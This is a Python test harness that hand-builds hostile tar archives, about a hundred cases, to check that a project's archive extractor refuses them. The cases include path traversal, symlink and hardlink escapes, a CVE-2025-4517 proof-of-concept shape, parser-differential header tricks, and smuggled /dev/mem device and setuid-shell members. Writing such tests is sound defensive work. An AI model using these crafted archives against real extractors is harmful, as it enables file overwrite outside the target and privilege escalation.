"""Hostile tar archives, as bytes: every way we know to slip a member past a vetter or out of the tree.

Headers are crafted by hand (not through tarfile), so the non-canonical forms that GNU tar and Python
read differently can be written at all. Where a misread header would let a member through unvetted,
the "data" after it is itself a header for a character device (`c 1:1`) or a setuid file: an
extractor that disagrees with its vetter creates it.

    cases = corpus(outside_abs="/tmp/x/outside", outside_rel="../outside")
    raw = archive(cases[0])          # plain tar: a valid bundle's members, then the attack, then the end
    gz = gzip_bytes(raw)

Run as a script, it drives the Python and tar extractors over the corpus in this interpreter (the
tests run it under Debian's /usr/bin/python3 too) and prints one JSON line per case:

    python3 tests/harness/hostile_tar.py drive WORKDIR
"""

from __future__ import annotations

import gzip
import io
import json
import os
import stat
import sys
import tarfile
from dataclasses import dataclass, field
from pathlib import Path

BLOCK = 512
MTIME = 1_760_000_000
USTAR, GNU = b"ustar\x0000", b"ustar  \x00"
END = bytes(2 * BLOCK)
FIELDS = {
    "name": (0, 100), "mode": (100, 8), "uid": (108, 8), "gid": (116, 8), "size": (124, 12),
    "mtime": (136, 12), "chksum": (148, 8), "type": (156, 1), "linkname": (157, 100),
    "magic": (257, 8), "uname": (265, 32), "gname": (297, 32), "devmajor": (329, 8),
    "devminor": (337, 8), "prefix": (345, 155), "tail": (500, 12), "gnu_sparse": (386, 96),
}  # fmt: skip


def header(
    name: bytes, kind: bytes = b"0", size: int = 0, mode: int = 0o644, linkname: bytes = b"",
    magic: bytes = USTAR, signed_checksum: bool = False, raw: dict[str, bytes] | None = None,
) -> bytes:  # fmt: skip
    """One 512-byte header; `raw` puts exact bytes into named fields (after the defaults)."""
    raw = raw or {}
    block = bytearray(BLOCK)

    def put(field_name: str, value: bytes) -> None:
        start, width = FIELDS[field_name]
        if len(value) > width:
            raise ValueError(f"{field_name}: {len(value)} bytes > {width}")
        block[start : start + width] = value.ljust(width, b"\0")

    put("name", name)
    put("mode", b"%07o\0" % mode)
    put("uid", b"0000000\0")
    put("gid", b"0000000\0")
    put("size", b"%011o\0" % size)
    put("mtime", b"%011o\0" % MTIME)
    put("type", kind)
    put("linkname", linkname)
    put("magic", magic)
    put("uname", b"root")
    put("gname", b"root")
    if magic == USTAR:
        put("devmajor", b"0000000\0")
        put("devminor", b"0000000\0")
    for key, value in raw.items():
        put(key, value)
    if "chksum" not in raw:
        block[148:156] = b" " * 8
        total = sum(b - 256 if (signed_checksum and b > 127) else b for b in block)
        block[148:156] = b"%06o\0 " % total
    return bytes(block)


def padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % BLOCK)


def member(name: bytes, data: bytes = b"", mode: int = 0o644, **kw) -> bytes:
    return header(name, size=len(data), mode=mode, **kw) + padded(data)


def pax_record(key: bytes, value: bytes) -> bytes:
    body = b" " + key + b"=" + value + b"\n"
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length += 1
    return str(length).encode() + body


def pax(records: bytes | dict[bytes, bytes], kind: bytes = b"x") -> bytes:
    data = records if isinstance(records, bytes) else b"".join(pax_record(k, v) for k, v in records.items())
    return header(b"./PaxHeaders/x", kind, size=len(data)) + padded(data)


def gnu_long(kind: bytes, data: bytes) -> bytes:
    return header(b"././@LongLink", kind, size=len(data), magic=GNU) + padded(data)


def symlink(name: bytes, target: bytes) -> bytes:
    return header(name, b"2", mode=0o777, linkname=target)


def hardlink(name: bytes, target: bytes) -> bytes:
    return header(name, b"1", linkname=target)


def directory(name: bytes) -> bytes:
    return header(name, b"5", mode=0o755)


# What a misread header lets through: a character device c 1:1 (/dev/mem) and a setuid shell.
DEVICE = header(b"smuggled-mem", b"3", mode=0o666, raw={"devmajor": b"0000001\0", "devminor": b"0000001\0"})
SETUID = member(b"smuggled-su", b"#!/bin/sh\nexec /bin/sh\n", mode=0o4755)


@dataclass
class Case:
    name: str
    klass: str  # "header" (non-canonical), "member" (the member rule), "structure"
    data: bytes  # the attack; `archive()` puts a valid bundle before it and the end marker after
    expect: str  # a fragment of the refusal message
    end: bool = True
    tags: set[str] = field(default_factory=set)


def _valid_bundle() -> bytes:
    """The members of a bundle that would install (shim, interpreter wrapper, marker), no end marker."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        files = {
            "bin/vllm-server": (b"#!/bin/sh\necho vllm-server stand-in\n", 0o755),
            "bin/python3": (f'#!/bin/sh\nexec "{sys.executable}" "$@"\n'.encode(), 0o755),
            "lib/python3.13/site-packages/marker.txt": (b"hostile", 0o644),
        }
        for dirname in ("bin", "lib", "lib/python3.13", "lib/python3.13/site-packages"):
            info = tarfile.TarInfo(dirname)
            info.type, info.mode, info.mtime = tarfile.DIRTYPE, 0o755, MTIME
            tar.addfile(info)
        for name, (data, mode) in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), mode, MTIME
            tar.addfile(info, io.BytesIO(data))
        end = tar.offset  # before close() writes the end marker
    return out.getvalue()[:end]


def _cve_2025_4517(outside_rel: bytes, with_member_below_link: bool) -> bytes:
    """The published PoC shape: a ladder of long directory names and one-letter links to them, then a
    link whose lexical path overflows PATH_MAX, so realpath() gives up while the kernel resolves it."""
    comp = b"d" * 247
    steps = b"abcdefghijklmnop"
    out, path = b"", b""
    for letter in steps:
        out += pax({b"path": path + comp}) + directory(b"long-dir")
        out += pax({b"path": path + bytes([letter]), b"linkpath": comp}) + symlink(b"long-link", b"x")
        path += comp + b"/"
    linkpath = b"/".join(bytes([s]) for s in steps) + b"/" + b"l" * 254
    if with_member_below_link:
        out += pax({b"path": linkpath, b"linkpath": b"../" * len(steps)}) + symlink(b"long-l", b"x")
    out += pax({b"path": b"escape", b"linkpath": linkpath + b"/../" + outside_rel}) + symlink(b"escape", b"x")
    out += member(b"escape/planted", b"written outside\n")
    return out


def corpus(outside_abs: str, outside_rel: str) -> list[Case]:
    """Every attack; `outside_abs`/`outside_rel` name a directory outside the destination (absolute,
    and relative to the destination) that must stay empty."""
    oabs, orel = outside_abs.encode(), outside_rel.encode()
    smuggle = DEVICE
    c: list[Case] = []

    def add(name: str, klass: str, data: bytes, expect: str, end: bool = True) -> None:
        c.append(Case(name, klass, data, expect, end))

    # -- non-canonical numbers: Python's int() and GNU tar disagree, so the vetter would skip the
    #    header that tar then reads (the smuggled device)
    for label, value in [
        ("underscore", b"5_12"), ("space", b" 512"), ("plus", b"+512"), ("leading-zero", b"0512"),
        ("hex", b"0x200"), ("trailing-space", b"512 "), ("empty", b""), ("minus", b"-0"),
    ]:  # fmt: skip
        add(f"pax-size-{label}", "header", pax({b"size": value}) + member(b"lib/a") + smuggle, "pax size")
    add("pax-record-length-zero-padded", "header", pax(b"013 size=512\n") + member(b"lib/a") + smuggle,
        "pax record length")  # fmt: skip
    add("pax-record-length-signed", "header", pax(b"+12 size=512\n") + member(b"lib/a") + smuggle,
        "pax record length")  # fmt: skip
    add("pax-record-length-mismatch", "header", pax(b"99 path=lib/x\n") + member(b"lib/a"), "pax record")
    add("pax-trailing-garbage", "header", pax(pax_record(b"path", b"lib/x") + b"garbage") + member(b"lib/a"),
        "pax record")  # fmt: skip
    add("pax-duplicate-key", "header", pax(pax_record(b"path", b"lib/x") + pax_record(b"path", b"../x"))
        + member(b"lib/a"), "twice")  # fmt: skip
    add("pax-gnu-sparse", "header", pax({b"GNU.sparse.major": b"1", b"GNU.sparse.minor": b"0",
        b"GNU.sparse.realsize": b"512"}) + member(b"lib/a"), "pax keyword")  # fmt: skip
    add("pax-hdrcharset", "header", pax({b"hdrcharset": b"BINARY"}) + member(b"lib/a"), "pax keyword")
    add(
        "pax-global-path",
        "header",
        pax({b"path": b"../escaped"}, kind=b"g") + member(b"lib/a"),
        "pax keyword",
    )
    add("pax-global-size", "header", pax({b"size": b"512"}, kind=b"g") + member(b"lib/a") + smuggle,
        "pax keyword")  # fmt: skip
    add("pax-nul-in-path", "header", pax({b"path": b"lib/ok\0/../../../escaped"}) + member(b"lib/a"),
        "malformed pax record")  # fmt: skip
    add("pax-mtime-garbage", "header", pax({b"mtime": b"1.5e9"}) + member(b"lib/a"), "pax mtime")
    # a time os.utime cannot set (past 2262): refused, never an OverflowError mid-extraction
    add("pax-mtime-year-3e30", "header", pax({b"mtime": b"9" * 39}) + member(b"lib/a"), "pax mtime")
    add("pax-uid-signed", "header", pax({b"uid": b"-1"}) + member(b"lib/a"), "pax uid")
    base256 = (512).to_bytes(11, "big")
    for label, value in [
        ("base256-stray-bits", b"\x81" + base256), ("base256-negative", b"\xff" + base256),
        ("base256-huge", b"\x80" + (1 << 70).to_bytes(11, "big")), ("embedded-space", b"0000001 000\0"),
        ("signed", b"+0000001000\0"), ("leading-spaces", b"       1000\0"), ("non-octal", b"0000000100x\0"),
        ("digit-8", b"00000001008\0"), ("bytes-after-nul", b"1000\0\0\0\x00777\0"), ("all-nul", b"\0" * 12),
    ]:  # fmt: skip
        add(f"size-{label}", "header", header(b"lib/a", raw={"size": value}) + smuggle, "size")
    add("mode-non-octal", "header", header(b"lib/a", raw={"mode": b"0000648\0"}), "mode field")
    add("mode-base256", "header", header(b"lib/a", raw={"mode": b"\x80" + bytes(6) + b"\x01"}), "mode field")
    add("uid-blank-inside", "header", header(b"lib/a", raw={"uid": b"00 0000\0"}), "uid field")
    add("mtime-garbage", "header", header(b"lib/a", raw={"mtime": b"1234567890a\0"}), "mtime field")
    add("devmajor-garbage", "header", header(b"lib/a", raw={"devmajor": b"garbage\0"}), "device number")
    add(
        "checksum-mismatch",
        "header",
        header(b"lib/a", raw={"chksum": b"000000\0 "}) + smuggle,
        "bad checksum",
    )
    add("checksum-signed-sum", "header", header(b"lib/\xe9\xff", signed_checksum=True), "bad checksum")
    add("checksum-non-octal", "header", header(b"lib/a", raw={"chksum": b"01x017\0 "}), "checksum field")
    add("name-bytes-after-nul", "header", header(b"lib/ok\0../../escaped"), "name field")
    add("linkname-bytes-after-nul", "header", header(b"lib/l", b"2", linkname=b"ok\0/etc"), "link name field")
    add("v7-header", "header", header(b"lib/a", magic=bytes(8)), "not a ustar or GNU tar")
    add("ustar-bad-version", "header", header(b"lib/a", magic=b"ustar\x0001"), "not a ustar or GNU tar")
    add(
        "gnu-sparse-fields",
        "header",
        header(b"lib/a", magic=GNU, raw={"gnu_sparse": b"00000001000\0"}),
        "GNU incremental",
    )
    add("ustar-tail-bytes", "header", header(b"lib/a", raw={"tail": b"x"}), "unused end")
    add("gnu-longname-inner-nul", "header", gnu_long(b"L", b"lib/ok\0../../escaped\0") + member(b"x"),
        "long name")  # fmt: skip
    add("gnu-longname-unterminated", "header", gnu_long(b"L", b"lib/long") + member(b"x"), "long name")
    add("mixed-extended-headers", "header", gnu_long(b"L", b"lib/a\0") + pax({b"path": b"../escaped"})
        + member(b"x"), "extended headers")  # fmt: skip
    add("two-pax-headers", "header", pax({b"path": b"lib/a"}) + pax({b"path": b"../escaped"}) + member(b"x"),
        "extended headers")  # fmt: skip
    add("dangling-extended-header", "header", pax({b"path": b"lib/a"}), "no member follows")
    add("lone-zero-block", "structure", bytes(BLOCK) + smuggle + padded(b""), "single zero block")
    add("data-after-end", "structure", END + smuggle + END, "after the end-of-archive", end=False)
    add("truncated", "structure", header(b"lib/a", size=4096) + b"x" * 1000, "truncated", end=False)
    add("symlink-with-size", "header", header(b"lib/l", b"2", size=512, linkname=b"a") + smuggle, "size")
    add("hardlink-with-size", "header", header(b"lib/h", b"1", size=512, linkname=b"bin/python3") + smuggle,
        "size")  # fmt: skip
    add("dir-with-size", "header", header(b"lib/d", b"5", size=512) + smuggle, "size")
    add("linkname-on-file", "header", member(b"lib/a", b"x", linkname=b"/etc/shadow"), "link name on a file")
    add("file-with-trailing-slash", "header", member(b"lib/evil/", b"x"), "ends with '/'")

    # -- types that are not a file, directory or link
    for label, kind in [("char-device", b"3"), ("block-device", b"4"), ("fifo", b"6"), ("contiguous", b"7"),
                        ("aregtype", b"\0"), ("gnu-sparse", b"S"), ("gnu-volume", b"V"),
                        ("gnu-dumpdir", b"D"),
                        ("gnu-multivolume", b"M"), ("solaris-acl", b"A")]:  # fmt: skip
        add(f"type-{label}", "member", header(b"lib/special", kind), "special file")

    # -- the member rule
    add("dotdot", "member", member(b"../escaped.txt", b"x"), "contains '..'")
    add("dotdot-inner", "member", member(b"lib/../../escaped.txt", b"x"), "contains '..'")
    add(
        "dotdot-pax-path",
        "member",
        pax({b"path": b"lib/../../escaped"}) + member(b"lib/a", b"x"),
        "contains '..'",
    )
    add("dotdot-gnu-longname", "member", gnu_long(b"L", b"lib/" + b"../" * 40 + b"escaped\0") + member(b"x"),
        "contains '..'")  # fmt: skip
    add("absolute", "member", member(oabs + b"/abs.txt", b"x"), "absolute path")
    add("absolute-via-prefix", "member", member(b"abs.txt", b"x", raw={"prefix": oabs}), "absolute path")
    add(
        "absolute-pax-path",
        "member",
        pax({b"path": oabs + b"/abs.txt"}) + member(b"x", b"x"),
        "absolute path",
    )
    add("symlink-absolute", "member", symlink(b"lib/out", oabs), "absolute path")
    add("symlink-relative-out", "member", symlink(b"lib/out", b"../" + orel), "symlink leaving")
    add("symlink-then-write-through", "member", symlink(b"lib/out", b"..") + member(b"lib/out/x", b"x"),
        "through a symlink")  # fmt: skip
    add("symlink-dot-then-write-through", "member",
        symlink(b"here", b".") + symlink(b"here/up", b"../escaped"),
        "through a symlink")  # fmt: skip
    add("symlink-dotdot-through-link", "member", symlink(b"here", b".") + symlink(b"up", b"here/.."),
        "symlink leaving")  # fmt: skip
    add(
        "symlink-late-bound",
        "member",
        symlink(b"a", b"s/../escaped") + symlink(b"s", b"."),
        "symlink leaving",
    )
    add("symlink-chain-loop", "member", b"".join(symlink(b"l%d" % i, b"l%d" % (i + 1)) for i in range(60))
        + symlink(b"l60", b"l0") + symlink(b"x", b"l0/../.."), "symlink leaving")  # fmt: skip
    add("cve-2025-4517", "member", _cve_2025_4517(orel, True), "symlink")
    add("cve-2025-4517-no-member-below-link", "member", _cve_2025_4517(orel, False), "symlink")
    add("hardlink-out", "member", hardlink(b"lib/hard", b"../../etc/hostname"), "hard link")
    add("hardlink-absolute", "member", hardlink(b"lib/hard", oabs + b"/x"), "hard link")
    add("hardlink-to-symlink", "member",
        symlink(b"lib/lnk", b"../bin/python3") + hardlink(b"lib/h", b"lib/lnk"),
        "not a regular file")  # fmt: skip
    add("hardlink-to-missing", "member", hardlink(b"lib/h", b"lib/not-there"), "not a regular file")
    add("hardlink-to-directory", "member", hardlink(b"lib/h", b"bin"), "not a regular file")
    add("hardlink-through-symlink", "member", symlink(b"d", b"bin") + hardlink(b"lib/h", b"d/python3"),
        "not a regular file")  # fmt: skip
    add("setuid", "member", member(b"bin/su", b"#!/bin/sh\n", mode=0o4755), "setuid")
    add("setgid", "member", member(b"bin/sg", b"#!/bin/sh\n", mode=0o2755), "setuid, setgid")
    add("sticky", "member", directory(b"tmp") + member(b"tmp/x", b"x", mode=0o1644), "sticky")
    add("setuid-directory", "member", header(b"sbin", b"5", mode=0o6755), "setuid")
    add("duplicate-replaces-shim", "member", member(b"bin/vllm-server", b"#!/bin/sh\nevil\n", mode=0o755),
        "appears twice")  # fmt: skip
    add("duplicate-file-then-symlink", "member", symlink(b"bin/python3", b"../lib"), "appears twice")
    add("directory-over-file", "member", directory(b"bin/python3"), "appears twice")
    add("below-a-file", "member", member(b"bin/python3/x", b"x"), "below a file")
    add("too-deep", "member", pax({b"path": b"d/" * 70 + b"x"}) + member(b"x", b"x"), "nested")
    add("name-too-long", "member", pax({b"path": b"lib/" + b"n" * 5000}) + member(b"x", b"x"), "longer than")
    add(
        "component-too-long",
        "member",
        pax({b"path": b"lib/" + b"n" * 300}) + member(b"x", b"x"),
        "longer than",
    )
    add("newline-in-name", "member", member(b"lib/a\nb", b"x"), "newline")
    add("root-as-file", "member", member(b"./", b"x"), "ends with '/'")
    return c


def archive(case: Case) -> bytes:
    """The plain tar of a case: a valid bundle, the attack, the end marker (unless the case ends itself)."""
    return _valid_bundle() + case.data + (END if case.end else b"")


def gzip_bytes(raw: bytes) -> bytes:
    return gzip.compress(raw, compresslevel=1, mtime=MTIME)


def inspect_tree(dest: Path, box: Path) -> list[str]:
    """What must never be on disk after any refusal: special files, set-id bits, links leaving `dest`,
    anything in `box` (the directory holding `dest`) besides `dest`. Empty when all is well."""
    problems = []
    others = sorted(p.name for p in box.iterdir() if p != dest)
    if others:
        problems.append(f"written beside the destination: {others}")
    root = os.path.realpath(dest)
    for path in [dest, *dest.rglob("*")]:
        st = path.lstat()
        if not (stat.S_ISREG(st.st_mode) or stat.S_ISDIR(st.st_mode) or stat.S_ISLNK(st.st_mode)):
            problems.append(f"special file {path}")
        if st.st_mode & (stat.S_ISUID | stat.S_ISGID):
            problems.append(f"set-id bit on {path}")
        if stat.S_ISLNK(st.st_mode):
            target = os.readlink(path)
            resolved = os.path.realpath(os.path.join(os.path.dirname(path), target))
            if target.startswith("/") or not (resolved == root or resolved.startswith(root + os.sep)):
                problems.append(f"link leaving the tree: {path} -> {target}")
    return problems


def drive(workdir: Path, extractors: tuple[str, ...] = ("python", "tar")) -> list[dict]:
    """Every case through `extract_stream` with each extractor, in this interpreter."""
    from rocmdoctor.archive.extract import ArchiveError, UnsafeArchive, extract_stream

    results = []
    outside = workdir / "outside"
    outside.mkdir(parents=True, exist_ok=True)
    for case in corpus(str(outside), "../../outside"):
        for extractor in extractors:
            box = workdir / f"{case.name}-{extractor}"
            dest = box / "dest"
            dest.mkdir(parents=True)
            error = ""
            try:
                extract_stream(io.BytesIO(gzip_bytes(archive(case))), dest, extractor=extractor)
            except (ArchiveError, UnsafeArchive) as exc:
                error = str(exc)
            problems = inspect_tree(dest, box) + [f"outside: {p}" for p in os.listdir(outside)]
            refused = bool(error) and case.expect in error
            row = {"case": case.name, "extractor": extractor, "error": error, "expect": case.expect}
            results.append({**row, "refused": refused, "problems": problems})
    return results


if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[1] != "drive":
        sys.exit("usage: hostile_tar.py drive WORKDIR [python|tar ...]")
    print(json.dumps({"python": sys.version.split()[0], "executable": sys.executable}))
    for row in drive(Path(sys.argv[2]), tuple(sys.argv[3:]) or ("python", "tar")):
        print(json.dumps(row))
